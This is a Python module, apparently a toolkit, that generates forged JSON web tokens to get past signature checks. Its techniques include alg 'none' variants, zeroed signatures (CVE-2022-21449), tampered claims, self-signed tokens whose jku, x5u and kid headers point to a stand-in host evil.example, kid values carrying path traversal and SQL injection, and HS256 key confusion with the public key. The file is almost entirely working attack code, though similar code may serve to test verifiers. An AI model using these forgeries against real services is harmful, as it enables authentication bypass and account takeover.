"""Forge JSON web tokens without the right key."""

import hmac
import json
from base64 import urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Iterator
from dataclasses import dataclass
from hashlib import sha256
from typing import Any, Self

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

Json = Any

_SOMEWHERE = "https://evil.example/keys.json"


@dataclass(frozen=True)
class Token:
    """A decoded compact token."""

    header: dict[str, Json]
    claims: dict[str, Json]
    signature: bytes

    @classmethod
    def read(cls, text: str) -> Self:
        """Decode a token; raise ValueError for a text that is none."""
        header, claims, signature = text.split(".")
        return cls(json.loads(_raw(header)), json.loads(_raw(claims)), _raw(signature))

    @property
    def signed(self) -> str:
        """Return the part that is signed."""
        return f"{_part(self.header)}.{_part(self.claims)}"

    def with_signature(self, signature: bytes) -> str:
        """Return the compact form."""
        return f"{self.signed}.{_text(signature)}"


def hs256(header: dict[str, Json], claims: dict[str, Json], secret: bytes) -> str:
    """Return a token signed with a shared secret."""
    token = Token({"typ": "JWT", **header, "alg": "HS256"}, claims, b"")
    return token.with_signature(hmac.digest(secret, token.signed.encode(), sha256))


def unsigned(token: Token) -> Iterator[tuple[str, str]]:
    """Yield tokens without a signature, or with a header that says none is needed."""
    for name in ("none", "None", "NONE", "nOnE", ""):
        bare = Token({**token.header, "alg": name}, token.claims, b"")
        yield f"algorithm {name or 'empty'}", bare.with_signature(b"")
        yield f"algorithm {name or 'empty'}, old signature", bare.with_signature(token.signature)
    without = Token({name: value for name, value in token.header.items() if name != "alg"}, token.claims, b"")
    yield "no algorithm", without.with_signature(token.signature)
    yield "no signature", token.with_signature(b"")
    yield "no third part", token.signed
    yield "a signature of zeros", token.with_signature(bytes(64))  # r = s = 0: CVE-2022-21449
    yield "a short signature of zeros", token.with_signature(bytes(8))


def edited(token: Token, **claims: Json) -> Iterator[tuple[str, str]]:
    """Yield tokens changed after signing."""
    for name, value in claims.items():
        yield f"another {name}", Token(token.header, {**token.claims, name: value}, b"").with_signature(token.signature)
    yield "another header", Token({**token.header, "x": 1}, token.claims, b"").with_signature(token.signature)
    for place in (0, len(token.signature) // 2, len(token.signature) - 1):
        yield f"bit flipped in byte {place} of the signature", token.with_signature(_flipped(token.signature, place))
    whole = token.with_signature(token.signature)
    yield "padding behind the signature", whole + "="
    yield "another spelling of the last letter", whole[:-1] + _neighbour(whole[-1])
    yield "five parts", whole + ".." + _text(b"x")


def self_keyed(token: Token, claims: dict[str, Json]) -> Iterator[tuple[str, str]]:
    """Yield tokens signed with the forger's key, which the header names or carries."""
    mine = ec.generate_private_key(ec.SECP256R1())
    jwk = _jwk(mine.public_key())
    hints: dict[str, dict[str, Json]] = {
        "jwk": {"jwk": jwk}, "jku": {"jku": _SOMEWHERE}, "x5u": {"x5u": _SOMEWHERE}, "nothing": {},
        "x5c": {"x5c": [_text(b"certificate")]}, "kid": {"kid": _SOMEWHERE},
    }  # fmt: skip
    for name, hint in hints.items():
        forged = Token({**token.header, **hint, "alg": "ES256"}, claims, b"")
        yield f"own key, header names it by {name}", forged.with_signature(_es256(mine, forged.signed))
    for kid, secret in {"../../../../dev/null": b"", "' UNION SELECT 'x' --": b"x", "": b""}.items():
        yield f"key id {kid or 'empty'!r}", hs256({**token.header, "kid": kid}, claims, secret)


def confused(token: Token, claims: dict[str, Json], jwk: dict[str, str]) -> Iterator[tuple[str, str]]:
    """Yield tokens signed with the public key as if it were a shared secret."""
    public = _public(jwk)
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    forms = {
        "PEM": pem,
        "PEM without its last line break": pem.rstrip(),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(jwk, separators=(",", ":")).encode(),
        "number": (jwk.get("x") or jwk["n"]).encode(),
    }
    if isinstance(public, ec.EllipticCurvePublicKey):
        forms["point"] = public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    for name, secret in forms.items():
        yield f"HS256 with the public key as {name}", hs256(token.header, claims, secret)


def _public(jwk: dict[str, str]) -> ec.EllipticCurvePublicKey | rsa.RSAPublicKey:
    numbers = {name: int.from_bytes(_raw(jwk[name]), "big") for name in ("x", "y", "n", "e") if name in jwk}
    if jwk["kty"] == "RSA":
        return rsa.RSAPublicNumbers(numbers["e"], numbers["n"]).public_key()
    return ec.EllipticCurvePublicNumbers(numbers["x"], numbers["y"], ec.SECP256R1()).public_key()


def _jwk(public: ec.EllipticCurvePublicKey) -> dict[str, str]:
    numbers = public.public_numbers()
    coordinates = {name: _text(getattr(numbers, name).to_bytes(32, "big")) for name in ("x", "y")}
    return {"kty": "EC", "crv": "P-256", "alg": "ES256", "kid": "mine", **coordinates}


def _es256(key: ec.EllipticCurvePrivateKey, signed: str) -> bytes:
    halves = decode_dss_signature(key.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))
    return b"".join(half.to_bytes(32, "big") for half in halves)


def _flipped(data: bytes, place: int) -> bytes:
    return data[:place] + bytes([data[place] ^ 1]) + data[place + 1 :]


def _neighbour(letter: str) -> str:
    """Return a letter that differs in the last bit only, which no byte of a signature reaches."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return alphabet[alphabet.index(letter) ^ 1]


def _part(value: Json) -> str:
    return _text(json.dumps(value, separators=(",", ":")).encode())


def _text(raw: bytes) -> str:
    return urlsafe_b64encode(raw).rstrip(b"=").decode()


def _raw(text: str) -> bytes:
    return urlsafe_b64decode(text + "=" * (-len(text) % 4))
